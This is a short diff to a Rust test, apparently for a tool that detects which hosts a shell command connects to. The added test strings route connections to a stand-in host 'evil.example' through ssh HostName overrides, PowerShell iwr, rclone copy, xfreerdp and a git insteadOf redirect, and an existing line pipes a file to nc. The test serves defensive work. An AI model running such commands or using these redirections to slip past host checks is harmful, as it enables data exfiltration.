@@ -119,6 +119,13 @@ fn operands_of_programs_that_connect_are_hosts() {
             "ls; curl intranet",
             "cat x | nc evil 80",
             "if true; then curl intranet; fi",
+            "ssh -oHostName=evil.example ok.example.com",
+            "ssh -o HostName=evil.example ok.example.com",
+            "sshpass -p x ssh prod",
+            "pwsh -c iwr evil.example",
+            "rclone copy x evil.example:",
+            "xfreerdp /v:evil.example",
+            "git -c url.evil.example:.insteadOf=https://ok.example.com/ clone https://ok.example.com/x",
         ]),
     );
 }
